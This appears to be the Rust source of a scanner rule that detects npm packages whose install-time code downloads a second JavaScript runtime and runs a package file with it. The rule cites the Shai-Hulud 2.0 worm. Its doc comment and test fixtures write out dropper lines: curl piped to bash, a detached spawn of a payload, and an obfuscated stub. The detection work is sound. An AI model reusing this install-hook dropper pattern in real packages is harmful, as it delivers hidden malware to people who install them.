//! `code/second-runtime`.

use super::{ev, finding};
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::signal::{FileFacts, Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Install-time code downloads a second JavaScript runtime (bun, deno, a Node.js build) and runs a package file with it.
    ///
    /// ## What it detects
    /// An install-time file or lifecycle command that fetches a runtime (the bun or deno install script or a release
    /// asset from any GitHub owner, a `node-vX.Y.Z-<os>-<arch>` tarball) and, at install time, starts a JavaScript
    /// file of the package other than through the lifecycle script's own `node`. Critical when the file it starts is
    /// obfuscated or large (64 KiB or more); high otherwise.
    ///
    /// ## Why it matters
    /// Shai-Hulud 2.0 ("The Second Coming", November 2025) shipped `setup_bun.js`, which installed bun and ran a
    /// 10 MB obfuscated `bun_environment.js` with it: outside Node, outside the tooling that watches Node, detached
    /// from the install.
    ///
    /// ## Example
    /// `execSync('curl -fsSL https://bun.sh/install | bash'); spawn(bunPath, ['payload.js'], { detached: true })`
    ///
    /// ## Known false positives
    /// Packages that install a runtime for the user (the `bun` and `deno` wrappers) download it but do not run a
    /// file of their own with it; toolchains that download Node.js headers (node-gyp) fetch `-headers` archives,
    /// not a runtime.
    pub static SECOND_RUNTIME = { id: "code/second-runtime", severity: Severity::High };
}

/// Size from which a started file counts as large.
const LARGE: usize = 64 * 1024;

/// One finding per package file run after a runtime download.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let droppers: Vec<(&FileFacts, &crate::signal::Signal)> = p
        .all(Kind::RuntimeDropper)
        .filter(|(f, s)| crate::scripts::at_install(f, s.line))
        .collect();
    let Some(&(df, ds)) = droppers.first() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for f in p
        .files
        .iter()
        .filter(|f| f.install_time || crate::scripts::is_manifest(&f.path))
    {
        for r in f.of(Kind::RunsFile) {
            if !crate::scripts::at_install(f, r.line) {
                continue;
            }
            // In package.json only a lifecycle line that itself fetches the runtime counts;
            // elsewhere, a file (or package) that fetched one.
            let fetched_here = droppers
                .iter()
                .any(|(d, s)| d.path == f.path && s.line == r.line);
            if crate::scripts::is_manifest(&f.path) && !fetched_here {
                continue;
            }
            let Some(target) = js_file(p, &r.detail).filter(|t| t.path != f.path) else {
                continue;
            };
            let heavy = target.text.as_ref().is_some_and(|t| t.len() >= LARGE)
                || target.has_any(&[Kind::StringArrayRotation, Kind::HexIdentifiers]);
            let severity = if heavy {
                Severity::Critical
            } else {
                SECOND_RUNTIME.default_severity
            };
            let how = if heavy {
                "an obfuscated or large file"
            } else {
                "a package file"
            };
            let msg = format!(
                "install-time code fetches a JavaScript runtime ({}) and runs {how} with it: `{}`",
                ds.detail, target.path
            );
            if out
                .iter()
                .any(|o: &CodeFinding| o.file == f.path && o.line == r.line)
            {
                continue;
            }
            out.push(finding(
                &SECOND_RUNTIME,
                severity,
                f,
                r,
                Locality::Function,
                msg,
                vec![ev(f, r), ev(df, ds)],
            ));
        }
    }
    out
}

/// The JavaScript file of the package a command names.
fn js_file<'a>(p: &'a PackageFacts, spec: &str) -> Option<&'a FileFacts> {
    let key = spec.replace('\\', "/");
    let key = key.trim_start_matches("./").trim_start_matches('/');
    p.files.iter().find(|f| {
        f.kind == FileKind::JavaScript && (f.path == key || f.path.ends_with(&format!("/{key}")))
    })
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{hits, scan};
    use diligence_finding::Severity;

    const PJ: &str =
        "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node setup.js\"}}";
    const SETUP: &str = "const { execSync, spawn } = require('child_process');\nexecSync('curl -fsSL https://github.com/o_x/bun/releases/latest/download/install.sh | bash');\nconst bun = require('os').homedir() + '/.bun/bin/bun';\nspawn(bun, ['env.js'], { detached: true, stdio: 'ignore' }).unref();\n";

    #[test]
    fn positive_obfuscated_payload() {
        let payload = format!(
            "var _0xa1b2=['a','b'];(function(_0xc3d4,_0xe5f6){{_0xc3d4.push(_0xc3d4.shift());}})(_0xa1b2,1);var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3;\n{}",
            "//".repeat(10)
        );
        let s = scan(&[
            ("package.json", PJ),
            ("setup.js", SETUP),
            ("env.js", &payload),
        ]);
        assert_eq!(
            hits(&s, "code/second-runtime"),
            vec![("setup.js".to_string(), 4)]
        );
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/second-runtime"),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn positive_lifecycle_line() {
        let s = scan(&[
            (
                "package.json",
                "{\n\"name\":\"t\",\n\"scripts\":{\n\"postinstall\":\"curl -fsSL https://bun.sh/install | bash && ~/.bun/bin/bun run index.js\"\n}}",
            ),
            ("index.js", "module.exports = 1;\n"),
        ]);
        assert_eq!(
            hits(&s, "code/second-runtime"),
            vec![("package.json".to_string(), 4)]
        );
    }

    /// A bun wrapper package downloads bun for its user and runs nothing of its own with it.
    #[test]
    fn negative_runtime_installer() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "setup.js",
                "const https = require('https');\nconst fs = require('fs');\nhttps.get('https://github.com/o_x/bun/releases/download/bun-v1.1.0/bun-linux-x64.zip', (r) => r.pipe(fs.createWriteStream('bun.zip')));\n",
            ),
        ]);
        assert!(hits(&s, "code/second-runtime").is_empty());
    }
}
